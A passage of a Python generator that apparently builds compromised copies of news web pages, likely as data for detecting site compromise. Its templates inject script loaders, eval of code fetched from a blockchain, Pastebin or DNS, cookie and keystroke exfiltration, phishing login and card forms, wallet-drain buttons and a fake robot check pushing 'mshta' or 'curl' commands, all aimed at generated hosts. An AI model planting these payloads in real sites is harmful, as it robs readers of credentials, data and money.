    return rng.choice([head_top, head_end, lambda h, w: middle(h, w, rng), before_end])(html, f"<script{rng.choice(['', ' type=text/javascript', ' async', ' data-cfasync=false'])}>{s}</script>")


def written_script(html, rng, inj):
    """A script tag put together from pieces and written into the page as it loads."""
    h = host(rng); i = rng.randrange(1, len(h))
    return anywhere(html, rng.choice([f"<script>document.write('<scr'+'ipt src=\"//{h[:i]}'+'{h[i:]}/{name(rng)}.js\"></scr'+'ipt>')</script>", f"<script>document.write(unescape('%3Cscript src=//{h}/%3E%3C/script%3E'))</script>",
                    f"<script>document.write('<iframe src=//{h[:i]}'+'{h[i:]} width=1 height=1></ifr'+'ame>')</script>"]), rng)


def push_worker(html, rng, inj):
    """A worker is installed to stay and the reader is asked for notifications, for their advertising."""
    w = rng.choice(["/sw.js", "/sw-check-permissions.js", "/" + name(rng) + ".js", "/firebase-sw.js"])
    return anywhere(html, rng.choice([f"<script>navigator.serviceWorker.register('{w}?d={host(rng)}').then(()=>Notification.requestPermission())</script>",
                    f"<script src=\"https://{host(rng)}/pfe/current/micro.tag.min.js?z={rng.randrange(10**6, 10**7)}&sw={w}\" data-cfasync=\"false\" async></script>"]), rng)


def worker_or_wasm(html, rng, inj):
    """A worker in the background or a compiled program of a foreign host starts with the page."""
    u, v = "https://" + host(rng) + "/" + name(rng), var(rng)
    return before_end(html, rng.choice([f"<script>new Worker(URL.createObjectURL(new Blob([\"importScripts('{u}.js')\"])))</script>", f"<script>for(let i=0;i<navigator.hardwareConcurrency;i++)new Worker('data:text/javascript,importScripts(%22{u}.js%22)')</script>",
                      f"<script>WebAssembly.instantiateStreaming(fetch('{u}.wasm'),{{}}).then({v}=>{v}.instance.exports.{name(rng, 1, 2)}())</script>", f"<script>new SharedWorker(URL.createObjectURL(new Blob(['importScripts(\"{u}.js\")'])))</script>"]))


def svg_script(html, rng, inj):
    """A drawing that loads a script, as uploads of pictures let through."""
    u = url(rng, ".js")
    return middle(html, rng.choice([f'<svg width="0" height="0"><script href="{u}"/></svg>', f'<svg xmlns:xlink="http://www.w3.org/1999/xlink" style="display:none"><script xlink:href="{u}"></script></svg>', f"<svg><script>{loader(rng)}</script></svg>"]), rng)


def preload_event(html, rng, inj):
    """A link that looks like a preload runs code when it arrives, or fails to."""
    return head_end(html, rng.choice([f'<link rel="preload" as="{rng.choice(["style", "script", "image"])}" href="{url(rng, ".css", ".js", ".png")}" onload="{esc(deed(rng))}" onerror="{esc(deed(rng))}">', f'<link rel=stylesheet href="/{name(rng)}.css" onerror="{esc(deed(rng))}">']))


def script_in_every_text(html, rng, inj):
    """A mass injection into the database: every teaser or headline ends with the same foreign script."""
    t = f'<script src="//{host(rng)}/{rng.choice(["ur.php", "b.js", "ngg.js", "x.js", "sl.php"])}"></script>'
    return change(html, rng.choice([r"</h[1-4]\s*>", r"</p\s*>", r"</li\s*>", r"</a\s*>"]), lambda e: t + e, 3)


def lookalike_script(html, rng, inj):
    """One of the page's own script addresses has become that of a look-alike host."""
    bare = re.sub(r"<!--.*?-->", lambda m: " " * len(m.group(0)), html, flags=re.S)
    ms = list(re.finditer(r"(<script\b[^>]*?\ssrc\s*=\s*[\"']?)((?:https?:)?//)([\w.-]+)", bare, re.I))
    if not ms: return None
    m = rng.choice(ms); h = m.group(3); p = h.split(".")
    k = max(range(len(p) - 1), key=lambda i: len(p[i])) if len(p) > 1 else 0; w = p[k]; i = rng.randrange(1, max(2, len(w) - 1))
    p[k] = rng.choice([w[:i] + w[i - 1] + w[i:], w + rng.choice(["-cdn", "s", "-js", "-static"]), w.replace("l", "1", 1) if "l" in w else w + "1", w[:i] + w[i + 1:] if len(w) > 4 else w + "x"])
    new = ".".join(p[:-1] + [rng.choice([p[-1], "co", "cc", "top"])])
    return html[:m.start(3)] + new + html[m.end(3):] if new != h else None


def infected_inline(html, rng, inj):
    """Inside one of the page's own inline scripts stand some lines more."""
    ms = [m for m in re.finditer(r"<script\b(?![^>]*\ssrc)(?![^>]*\stype\s*=(?!\s*[\"']?(?:text/javascript|application/javascript|module)))[^>]*>(?=(.{60,}?)</script)", re.sub(r"<!--.*?-->", lambda m: " " * len(m.group(0)), html, flags=re.S), re.I | re.S)]
    if not ms: return None
    m = rng.choice(ms)
    return put(html, m.end(), f";if(typeof {var(rng)}s==='undefined'){{(function(){{{loader(rng)}}})()}};\n")


def trusted_callback(html, rng, inj):
    """A script from a well-known host that runs what its callback parameter says."""
    b = base64.b64encode(loader(rng).encode()).decode()
    h = rng.choice(["accounts.google.com/o/oauth2/revoke?callback=", "www.youtube.com/oembed?callback=", "api.vk.com/method/x?callback=", "www.googleapis.com/customsearch/v1?callback="])
    return rng.choice([head_end, before_end])(html, f'<script src="https://{h}eval(atob(%27{quote(b)}%27))"></script>')


def chain_or_dns(html, rng, inj):
    """The code comes out of a block chain, a name server's text record, a paste or a chat channel."""
    a = "".join(rng.choice("0123456789abcdef") for _ in range(40))
    return anywhere(html, rng.choice([
        f"<script>fetch('https://bsc-dataseed1.binance.org',{{method:'POST',headers:{{'content-type':'application/json'}},body:JSON.stringify({{jsonrpc:'2.0',id:1,method:'eth_call',params:[{{to:'0x{a}',data:'0x6d4ce63c'}},'latest']}})}}).then(r=>r.json()).then(r=>eval(atob(r.result.slice(130).match(/../g).map(c=>String.fromCharCode(parseInt(c,16))).join('').replace(/\\0/g,''))))</script>",
        f"<script>fetch('https://dns.google/resolve?type=TXT&name={name(rng)}.{rng.choice(TLDS)}').then(r=>r.json()).then(r=>location=atob(r.Answer[0].data))</script>",
        f"<script>fetch('https://api.telegram.org/file/bot{rng.randrange(10**9)}/{name(rng)}').then(r=>r.text()).then(eval)</script>",
        f"<script>fetch('https://pastebin.com/raw/{name(rng)}').then(r=>r.text()).then(t=>new Function(t)())</script>"]), rng)


def tag_container(html, rng, inj):
    """The identifiers of measuring and advertising are the intruders' own: numbers and income go to them."""
    known = {}
    def fresh(m): return known.setdefault(m.group(0), once(m))
    def once(m): return m.group(1) + "".join(c if c == "-" else rng.choice("0123456789" if c.isdigit() else "ABCDEFGHJKLMNPQRSTUVWXYZ") if c.isalnum() else c for c in m.group(2))
    out, n = re.subn(r"\b(GTM-|UA-|G-|ca-pub-|AW-)([A-Z0-9]{5,16}(?:-\d+)?)\b", fresh, html)
    if n: return out
    return head_top(html, f"<script>(function(w,d,s,l,i){{w[l]=w[l]||[];var j=d.createElement(s);j.async=true;j.src='https://{rng.choice(['www.googletagmanager.com', host(rng)])}/gtm.js?id='+i;d.head.appendChild(j)}})(window,document,'script','dataLayer','GTM-{''.join(rng.choice('BCDFGHKLMNPQRSTVW23456789') for _ in range(7))}');</script>")


def script_address_frame(html, rng, inj):
    """A frame, or a frame written within its attribute, that is no page but code acting on the page around it."""
    js = re.sub(r"(?<![\w.'])(document\b|location\.)", r"parent.\1", deed(rng)).replace("window[", "parent[")
    return middle(html, rng.choice([f'<iframe src="javascript:{esc(js)}" width=1 height=1 style="border:0"></iframe>', f'<iframe srcdoc="{esc("<script>" + js + "</script>")}" style="width:0;height:0;border:0"></iframe>']), rng)


def form_listener(html, rng, inj):
    """Whatever is typed anywhere on the page, search or login, is sent away as it is typed or on leaving the field."""
    u, v = url(rng, ".php", ".gif", "/collect"), var(rng)
    return anywhere(html, "<script>" + rng.choice([f"document.addEventListener('{rng.choice(['input', 'change', 'keyup'])}',function({v}){{navigator.sendBeacon('{u}',{v}.target.name+'='+{v}.target.value)}},true)",
                    f"document.addEventListener('submit',function({v}){{new Image().src='{u}?'+new URLSearchParams(new FormData({v}.target))}},true)", f"setInterval(function(){{fetch('{u}?c='+btoa(document.cookie),{{mode:'no-cors'}})}},{rng.randrange(1000, 9000)})"]) + "</script>", rng)


# ---------------------------------------------------------------- hidden

def css_hide_all(html, rng, inj):
    """Nothing is left to see: one rule makes all of the page vanish."""
    rule = rng.choice(["display:none", "visibility:hidden", "opacity:0", "content-visibility:hidden;height:0;overflow:hidden", "clip-path:inset(50%)", "transform:translateX(-9999px)", "position:absolute;left:-9999px", "filter:opacity(0)",
                       "transform:scale(0)", "max-height:0;overflow:hidden", "filter:blur(40px)"])
    return style_somewhere(html, ("body>*" if "overflow" in rule else rng.choice(["body", "body>*", "html>body", "html"])) + "{" + ";".join(x + "!important" for x in rule.split(";")) + "}", rng)


def text_unseen(html, rng, inj):
    """Pictures and boxes stay, but no letter can be read."""
    rule = rng.choice(["font-size:0", "color:transparent;text-shadow:none", "color:#fff;background:#fff", "text-indent:-9999px;overflow:hidden", "line-height:0;font-size:1px", "-webkit-text-security:disc", "-webkit-text-fill-color:transparent"])
    return style_somewhere(html, "body,body *{" + ";".join(x + "!important" for x in rule.split(";")) + "}", rng)


def hidden_by_attribute(html, rng, inj):
    """The body or the container of all stories is marked hidden in its own tag; at times a line stands in its place."""
    e = container(html)
    st = rng.choice(["display:none!important", "visibility:hidden!important", "position:absolute;left:-99999px", "opacity:0", "height:0;overflow:hidden"])
    if e is None: return change(html, r"<body\b[^>]*>", lambda t: with_attr(t, style=st))
    return html[:e[0]] + rng.choice(["", f"<h1>{msg(rng)}</h1>"]) + with_attr(html[e[0]:e[1]], style=st) + html[e[1]:]


def swallowed(html, rng, inj):
    """A tag or comment left open near the top swallows the rest of the page, or turns it into bare source text."""
    hs = [m.start() for m in re.finditer(r"<(?:div|section|article|main|table|ul)\b", seen(html), re.I)]
    if len(hs) < 6: return body_top(html, "<plaintext>")
    i = hs[rng.randrange(0, max(1, len(hs) // 6))]; rest = html[i:].lower()
    ts = {"<!-- ": "-->", "<textarea style='width:100%;height:90vh'>": "</textarea", "<xmp>": "</xmp", "<style>": "</style", "<noframes>": "</noframes", "<noembed>": "</noembed", "<template>": "</template",
          "<iframe>": "</iframe", "<script type=x>": "</script", "<title>": "</title", "<plaintext>": "\0", "<svg><desc><plaintext>": "\0"}
    return put(html, i, rng.choice([t for t, end in ts.items() if end not in rest]))


def closed_wrapper(html, rng, inj):
    """All stories lie inside something that is shut: a closed disclosure, a dialog, a popover, a template."""
    e = container(html)
    if e is None: return None
    a, b = rng.choice([(f"<details><summary>{msg(rng)}</summary>", "</details>"), ("<dialog>", "</dialog>"), ("<div popover>", "</div>"), ("<template>", "</template>"), ('<div hidden="until-found">', "</div>"), ("<object data='data:text/html,%20' width=1 height=1>", "</object>"), ("<svg width=1 height=1><foreignObject width=1 height=1>", "</foreignObject></svg>")])
    return html[:e[0]] + a + html[e[0]:e[3]] + b + html[e[3]:]


def shadow_swallow(html, rng, inj):
    """A shadow tree on the body or the container: what was in it is still in the source and no longer drawn."""
    t = f'<template shadowrootmode="{rng.choice(["open", "closed"])}"><h{rng.randrange(1, 4)}>{msg(rng)}</h{rng.randrange(1, 4)}>{rng.choice(["", f"<img src={pic(rng)}>"])}</template>'
    e = container(html)
    return put(html, e[1], t) if e and html[e[0]:e[0] + 4].lower() in ("<div", "<mai") and rng.random() < 0.5 else (put(html, place(html, r"<body\b[^>]*>"), t))


def frameset_page(html, rng, inj):
    """A frameset before the body: browsers show the foreign page in it and none of this one."""
    u = url(rng, ".html", "/", ".php")
    t = rng.choice([f'<frameset rows="100%,*" border=0><frame src="{u}"></frameset>', f'<frameset cols="*"><frame name="main" src="{u}" noresize></frameset>'])
    i = place(html, r"<body\b[^>]*>", end=False)
    return put(html, i, t) if i and rng.random() < 0.5 and not re.search(r"<(?:div|p|img|span|a|iframe|h[1-6])\b", seen(html)[:i], re.I) else head_top(html, t)


def upside_down(html, rng, inj):
    """The page stands on its head, is mirrored, spins or is in false colours."""
    r = rng.choice(["transform:rotate(180deg)", "transform:scaleX(-1)", "filter:invert(1) hue-rotate(90deg)", "filter:brightness(0)", "transform:rotate(%ddeg) scale(.5)" % rng.randrange(20, 170), "animation:q 2s linear infinite", "zoom:0.02", "filter:contrast(0)"])
    return style_somewhere(html, f"@keyframes q{{to{{transform:rotate(360deg)}}}}{rng.choice(['body', 'html', 'body>*'])}{{{r}!important}}" if "animation" not in r else f"@keyframes q{{to{{transform:rotate(360deg)}}}}body{{{r}}}", rng)


def starved(html, rng, inj):
    """A policy in the head forbids the page its own pictures, styles and scripts."""
    p = rng.choice(["default-src 'none'", "img-src 'none'; media-src 'none'", "style-src 'none'; img-src 'none'", f"default-src https://{host(rng)} 'unsafe-inline'", "script-src 'none'; style-src 'none'"])
    return head_top(html, f'<meta http-equiv="Content-Security-Policy" content="{p}">')


# ---------------------------------------------------------------- lost

def masthead_gone(html, rng, inj):
    """The head of the page with its name and logo is gone, or someone else's name stands there."""
    e = next((e for e in elements(html, "header") if e[0] < len(html) * 0.6), None)
    if e is None:
        near = lambda e: re.search(r"head|mast|logo|brand|banner", html[e[0]:e[1]], re.I) and re.search(r"<img\b|<a\b", html[e[0]:e[3]], re.I)
        es = [e for e in elements(html, "div") + elements(html, "table") if e[0] < len(html) * 0.4 and 200 < e[3] - e[0] < 0.3 * len(html) and near(e)]
        e = max(es, key=lambda e: e[3] - e[0], default=None)
    return e and html[:e[0]] + rng.choice(["", f"<h1>{msg(rng)}</h1>"]) + html[e[3]:]


def navigation_gone(html, rng, inj):
    """No section can be reached any more: all navigation is deleted."""
    es = elements(html, "nav") or [e for e in elements(html, "ul") if len(re.findall(r"<a\b", html[e[0]:e[3]], re.I)) >= 6][:4]
    top = []
    for e in es:
        if not top or e[0] >= top[-1][1]: top.append((e[0], e[3]))
    return cut(html, top) if top and sum(b - a for a, b in top) < 0.7 * len(html) else None


def stories_deleted(html, rng, inj):
    """More than half of the stories have been deleted."""
    cs = cards(html)
    return cut(html, [(e[0], e[3]) for e in rng.sample(cs, int(len(cs) * rng.uniform(0.6, 0.95)))]) if len(cs) >= 6 else None


def pictures_broken(html, rng, inj):
    """The uploads are gone: all pictures lead to nothing or have no address."""
    s = rng.choice(["", "null", "/404", "undefined", "/uploads/deleted.jpg", "about:blank"])
    out = change(html, r"<img\b[^>]*>", lambda t: plain_img(t, s), 3)
    return out and (change(out, r"<source\b[^>]*>", lambda t: "") or out)


def cards_emptied(html, rng, inj):
    """The stories' frames are there and all of them are empty of words."""
    cs = cards(html)
    if len(cs) < 6: return None
    for e in reversed(cs):
        if rng.random() < 0.9: html = html[:e[1]] + (texts(html[e[1]:e[2]], lambda t: " ") or html[e[1]:e[2]]) + html[e[2]:]
    return html


def same_story(html, rng, inj):
    """One story of the outlet's own stands in all places, as after an UPDATE without a condition."""
    cs = cards(html)
    if len(cs) < 6: return None
    e = rng.choice(cs); one = html[e[1]:e[2]]
    for c in reversed(cs): html = html[:c[1]] + one + html[c[2]:]
    return html


def cut_off(html, rng, inj):
    """The page breaks off after its first part; a database error, a shell's output or a line of theirs closes it."""
    hs = [m.end() for m in re.finditer(r"</(?:div|li|section|article|p|td)>", seen(html), re.I)]
    if len(hs) < 20: return None
    return html[:hs[rng.randrange(len(hs) // 10, len(hs) // 3)]] + rng.choice(["", f"<p>{msg(rng)}</p>", "<b>Fatal error</b>: Table 'posts' doesn't exist", "uid=33(www-data) gid=33(www-data) groups=33(www-data)"])


def styles_gone(html, rng, inj):
    """The page stands bare: every stylesheet is taken away."""
    out = change(html, r"<link\b[^>]*stylesheet[^>]*>", lambda t: "", 1)
    if out is None: return None
    return re.sub(r"<style\b[^>]*>.*?</style\s*>", "", out, flags=re.I | re.S)


def scripts_gone(html, rng, inj):
    """All of the outlet's scripts, measuring and advertising are gone, and one foreign script stands for them."""
    out, n = re.subn(r"<script\b[^>]*>.*?</script\s*>", "", html, flags=re.I | re.S)
    return before_end(out, rng.choice(["", f'<script src="{url(rng, ".js")}"></script>'])) if n >= 4 else None


# ---------------------------------------------------------------- led elsewhere

def some_links(html, rng, inj):
    """A handful of the stories lead to a foreign page; all looks as before."""
    ms = story_links(html)
    if len(ms) < 5: return None
    u = url(rng, "/", ".html", ".php")
    return relink(html, rng.sample(ms, min(len(ms), rng.randrange(4, 15))), lambda t: with_attr(t, href=u if rng.random() < 0.7 else url(rng, "/", ".html")))


def script_links(html, rng, inj):
    """Many links run code in place of leading to their story."""
    ms = story_links(html, 15)
    if len(ms) < 5: return None
    js = deed(rng)
    return relink(html, rng.sample(ms, max(4, len(ms) // 2)), lambda t: with_attr(t, href="javascript:" + js) if rng.random() < 0.5 else with_attr(t, onclick=js + ";return false"))


def dead_links(html, rng, inj):
    """No link of the page leads anywhere any more."""
    s = rng.choice(["#", "", "javascript:void(0)", "/", "about:blank", "null"])
    return change(html, r"<a\b[^>]*\shref\s*=[^>]*>", lambda t: with_attr(t, href=s), 10)


def download_links(html, rng, inj):
    """Who opens a story gets a program to install."""
    ms = story_links(html, 15)
    u = url(rng, ".apk", ".exe", ".msi", ".zip", ".dmg", ".js", ".iso", ".scr")
    return relink(html, rng.sample(ms, max(3, len(ms) // 3)), lambda t: with_attr(t, href=u, download=rng.choice(["", "update.exe", "news.apk"]))) if len(ms) >= 4 else None


def unseen_cover(html, rng, inj):
    """An unseen link lies over the page: any click leads away."""
    return anywhere(html, f'<a href="{url(rng, "/", ".html")}"{rng.choice(["", " target=_blank"])} style="position:fixed;{rng.choice(["inset:0", "top:0;left:0;width:100%;height:100%", "left:0;top:0;right:0;bottom:0"])};z-index:{rng.choice([9999, 2147483647])};{rng.choice(["opacity:0", "background:transparent", "opacity:.01"])}"></a>', rng)


def first_click(html, rng, inj):
    """The first click or touch anywhere opens a foreign page, once for each reader."""
    u, v, e = url(rng, "/", ".php"), var(rng), rng.choice(["click", "mousedown", "touchend", "keydown"])
    return anywhere(html, "<script>" + rng.choice([f"document.addEventListener('{e}',function {v}(){{window.open('{u}');document.removeEventListener('{e}',{v})}})", f"addEventListener('{e}',()=>{{location.href='{u}'}},{{once:true}})",
                    f"document.on{e}=function(){{if(!localStorage.{v}){{localStorage.{v}=1;top.location='{u}'}}}}"]) + "</script>", rng)


def back_button(html, rng, inj):
    """Going back, or leaving, ends on a foreign page."""
    u = url(rng, "/", ".html")
    return anywhere(html, "<script>" + rng.choice([f"history.pushState(0,'',location.href);onpopstate=function(){{location.replace('{u}')}}", f"for(var i=0;i<{rng.randrange(3, 12)};i++)history.pushState(i,'','#');window.addEventListener('popstate',()=>location='{u}')",
                    f"document.addEventListener('visibilitychange',function(){{if(document.hidden)location='{u}'}})"]) + "</script>", rng)


def forms_stolen(html, rng, inj):
    """What is typed into the page's forms goes to a foreign host, by the form's address or its button's."""
    u = url(rng, ".php", "/", "/post").replace("http://", "https://")
    if rng.random() < 0.4:
        out = change(html, r"<(?:button\b(?![^>]*type=[\"']?(?:button|reset))|input\b(?=[^>]*type=[\"']?submit))[^>]*>", lambda t: with_attr(t, formaction=u)) if re.search(r"<form\b", seen(html), re.I) else None
        if out: return out
    return change(html, r"<form\b[^>]*>", lambda t: with_attr(t, action=u, method="post"))


def login_box(html, rng, inj):
    """A box asks the reader to log in, in the outlet's colours, and sends the password away."""
    w = rng.choice([("Your session has expired. Please sign in again", "E-mail", "Password", "Sign in"), ("Oxumağa davam etmək üçün daxil olun", "E-poçt", "Şifrə", "Daxil ol"), ("Войдите, чтобы продолжить чтение", "Почта", "Пароль", "Войти"),
                    ("Bitte melden Sie sich erneut an", "E-Mail", "Passwort", "Anmelden"), ("Oturumunuz sona erdi", "E-posta", "Şifre", "Giriş yap"), ("Inicie sesión con su correo", "Correo", "Contraseña", "Entrar")])
    box = f'<form action="{url(rng, ".php", "/login")}" method="post"><p>{w[0]}</p><input name="{rng.choice(["email", "login", "u"])}" placeholder="{w[1]}"><input type="password" name="p" placeholder="{w[2]}"><button>{w[3]}</button></form>'
    return rng.choice([lambda: body_top(html, f'<div style="position:fixed;inset:0;background:#000c;z-index:99999"><div style="background:#fff;margin:15vh auto;width:340px;padding:30px">{box}</div></div>'), lambda: middle(html, box, rng)])()


def money_box(html, rng, inj):
    """Readers are asked to give: a card form, a coin address or a wallet to connect, for the intruders."""
    t = rng.choice(["Support our newsroom", "Zəlzələdən zərər çəkənlərə yardım", "Помогите пострадавшим", "Spenden Sie für die Opfer", "Depremzedelere yardım", "Ayuda a las víctimas", "GIVEAWAY: send 0.1, get 0.2 back"])
    b = rng.choice([f'<form method=post action="{url(rng, ".php", "/pay")}"><input name=cc autocomplete="cc-number" placeholder="0000 0000 0000 0000"><input name=exp placeholder="MM/YY"><input name=cvv placeholder=CVV size=3><button>OK</button></form>',
                    f"<p>BTC: <b>{coin(rng)}</b><br>USDT (TRC20): <b>T{''.join(rng.choice('ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz123456789') for _ in range(33))}</b></p><img src=\"{any_pic(html, rng)}\" width=200 alt=QR>",
                    f'<button onclick="ethereum.request({{method:\'eth_requestAccounts\'}}).then(a=>ethereum.request({{method:\'eth_sendTransaction\',params:[{{from:a[0],to:\'0x{rng.randrange(16**40):040x}\',value:\'0x{rng.randrange(16**14):x}\'}}]}}))">Connect wallet</button>'])
    return rng.choice([body_top, lambda h, w: middle(h, w, rng)])(html, f"<section><h2>{t}</h2>{b}</section>")


def app_banner(html, rng, inj):
    """A strip offers the outlet's 'new app', a package from elsewhere."""
    n = rng.choice(["Download our new app", "Yeni tətbiqimizi yükləyin", "Скачайте наше новое приложение", "Jetzt unsere neue App laden", "Yeni uygulamamızı indirin", "حمّل تطبيقنا الجديد"])
    return anywhere(html, f'<div style="position:fixed;{rng.choice(["bottom", "top"])}:0;left:0;right:0;z-index:{rng.randrange(999, 99999)};background:#{rng.randrange(16**6):06x};padding:14px;text-align:center"><a href="{url(rng, ".apk", ".exe", ".dmg")}" download style="color:#fff;font-size:18px">{n}</a></div>', rng)


def paste_and_run(html, rng, inj):
    """A false robot check tells the reader to paste a command into the machine."""
    v = var(rng)
    w = rng.choice([("Verify you are human", "Press Win+R, then Ctrl+V, then Enter"), ("Подтвердите, что вы не робот", "Нажмите Win+R, Ctrl+V и Enter"), ("İnsan olduğunuzu təsdiqləyin", "Win+R, Ctrl+V, Enter düymələrini basın"), ("Bestätigen Sie, dass Sie ein Mensch sind", "Windows+R, Strg+V, Enter drücken")])
    return anywhere(html, f'<div id="{v}" style="position:fixed;inset:0;background:#fff;z-index:2147483646;text-align:center;padding-top:20vh"><h2>{w[0]}</h2><button onclick="navigator.clipboard.writeText(\'{rng.choice(["mshta", "curl -s", "msiexec /i"])} https://{host(rng)}/{name(rng)}\');this.nextSibling.hidden=0">&#9744; {w[0]}</button><p hidden>{w[1]}</p></div>', rng)


def odd_refresh(html, rng, inj):
    """A refresh where none looks for it, in a spelling that browsers still follow: amid the body, without url=, in capitals, by letters' numbers."""
    u = url(rng, "/", ".html"); n = rng.choice(["0", "1", "3", "5", "0.1"])
    c = rng.choice([f"{n};{u}", f"{n}, URL='{u}'", f" {n} ; uRl = {u}", f"{n};url={''.join('&#%d;' % ord(x) for x in u)}", f"{n} {u}"])
    return rng.choice([lambda h, w: middle(h, w, rng), before_end, body_top])(html, rng.choice([f'<META CONTENT="{c}" HTTP-EQUIV=REFRESH>', f"<meta http-equiv='&#114;efresh' content=\"{c}\">", f'<meta content="{c}" http-equiv="Refresh">']))


def contact_swapped(html, rng, inj):
    """Telephone, mail and tips line of the newsroom are the intruders'."""
    t, m = f"+{rng.randrange(10**10, 10**11)}", f"{name(rng)}@{rng.choice(['proton.me', 'onionmail.org', 'mail.ru', 'tutanota.com'])}"
    out = change(html, r"<a\b[^>]*href\s*=\s*[\"']?(?:tel|mailto|https?://(?:t\.me|wa\.me))[^>]*>[^<]*", lambda a: with_attr(re.match(r"<a\b[^>]*>", a).group(0), href="tel:" + t if "tel:" in a else "mailto:" + m) + (t if "tel:" in a else m))
    return out or before_end(html, f'<p>{rng.choice(["Send us documents", "Məlumat göndərin", "Пришлите документы", "Bize yazın", "Hinweise an"])}: <a href="mailto:{m}">{m}</a>, <a href="https://t.me/{name(rng)}">Telegram</a>, <a href="tel:{t}">{t}</a></p>')


def icon_feed_manifest(html, rng, inj):
    """The tab's icon, the feed, the app manifest and the search plug-in come from a foreign host."""
    h = "https://" + host(rng)
    def one(t):
        rel = (get_attr(t, "rel") or "").lower()
        if "icon" in rel: return with_attr(t, href=f"{h}/{name(rng)}.ico")
        if rel in ("manifest", "search") or "rss" in t.lower() or "atom" in t.lower(): return with_attr(t, href=f"{h}/{name(rng)}.{'json' if rel == 'manifest' else 'xml'}")
    return change(html, r"<link\b[^>]*>", one) or head_end(html, f'<link rel="icon" href="{h}/{name(rng)}.png"><link rel="alternate" type="application/rss+xml" href="{h}/feed">')


def pinged_links(html, rng, inj):
    """Each click of a reader is reported to a foreign host, or opens its page in the place of the one left behind."""
    u, v = f"https://{host(rng)}/{name(rng)}", var(rng)
    if rng.random() < 0.6: return change(html, r"<a\b[^>]*\shref\s*=[^>]*>", lambda t: with_attr(t, ping=u), 10)
    return before_end(html, f"<script>document.addEventListener('click',function({v}){{var a={v}.target.closest('a');if(a){{{v}.preventDefault();window.open(a.href);location='{u}'}}}},true)</script>")


def logo_map(html, rng, inj):
    """A picture's face is an area map that leads away, or the first picture's own link does."""
    n, u = name(rng), url(rng, "/", ".html")
    ms = [m for m in re.finditer(r"<img\b[^>]*>", seen(html), re.I)][:12]
    if not ms: return None
    m = rng.choice(ms[:6])
    out = html[:m.start()] + with_attr(html[m.start():m.end()], usemap="#" + n) + f'<map name="{n}"><area shape="default" href="{u}" alt=""></map>' + html[m.end():]
    a = [x for x in re.finditer(r"<a\b[^>]*\shref\s*=[^>]*>(?=\s*<(?:img|picture|svg))", seen(out), re.I)][:rng.randrange(2, 8)]
    for x in reversed(a): out = out[:x.start()] + with_attr(out[x.start():x.end()], href=u) + out[x.end():]
    return out


PARTIAL.clear(); PARTIAL.update({f.__name__: f for f in (
    css_background, css_all_pictures, all_pictures_one, srcset_hijack, table_background, video_top, drawn_emblem, embedded_object, canvas_banner, srcdoc_frame, data_picture,
    dialog_open, shadow_banner, css_before_message, phones_only,
    ticker, alert_box, menu_labels, footer_signature, heading_css, paragraphs_one, link_texts, word_everywhere, social_tags, title_only, alt_and_tooltips, ransom_note, lead_story_taken,
    backwards, garbled, spam_in_sight, search_takeover,
    event_in_field, body_event, module_import, foreign_style, base_hijack, script_from_data, veiled_script, written_script, push_worker, worker_or_wasm, svg_script, preload_event, script_in_every_text,
    lookalike_script, infected_inline, trusted_callback, chain_or_dns, tag_container, script_address_frame, form_listener,
    css_hide_all, text_unseen, hidden_by_attribute, swallowed, closed_wrapper, shadow_swallow, frameset_page, upside_down, starved,
    masthead_gone, navigation_gone, stories_deleted, pictures_broken, cards_emptied, same_story, cut_off, styles_gone, scripts_gone,
    some_links, script_links, dead_links, download_links, unseen_cover, first_click, back_button, forms_stolen, login_box, money_box, app_banner, paste_and_run,
    odd_refresh, contact_swapped, icon_feed_manifest, pinged_links, logo_map)})
